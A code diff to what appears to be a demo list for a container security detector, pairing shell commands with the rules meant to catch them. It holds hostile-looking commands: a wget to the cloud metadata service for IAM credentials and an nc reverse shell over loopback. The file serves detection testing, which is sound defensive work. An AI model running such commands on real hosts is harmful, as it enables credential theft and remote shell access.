@@ -4,7 +4,7 @@ export interface DemoStep {
   marker: string;
   /** What a person reads. */
   says: string;
-  /** The rule that should see it. */
+  /** What should see it. */
   rule: string;
   /** Shell, run by the container's first process. Must be harmless where nothing watches. */
   shell: string;
@@ -21,18 +21,18 @@ export const demoSteps: readonly DemoStep[] = [
     marker: 'metadata',
     says: 'asks the cloud metadata address for credentials (it has no network: nothing leaves this machine)',
     rule: 'net-metadata-service',
-    shell: 'wget -T 1 -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/',
+    shell: 'wget -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/',
   },
   {
-    marker: 'mount',
-    says: 'tries to mount a file system, which it has no right to',
+    marker: 'network',
+    says: 'tries to change its network devices, which it has no right to',
     rule: 'cap-denied',
-    shell: 'mount -t tmpfs none /mnt',
+    shell: 'ifconfig lo mtu 9000 || ip link set lo mtu 9000',
   },
   {
     marker: 'shell',
     says: 'hands a shell to a network connection with nc (to itself, over loopback)',
-    rule: 'reverse-shell',
+    rule: 'reverse-shell, and network-tool',
     shell: '{ sleep 1; echo id; } | nc -l -p 4444 & sleep 0.5; nc 127.0.0.1 4444 -e sh; wait',
   },
 ];
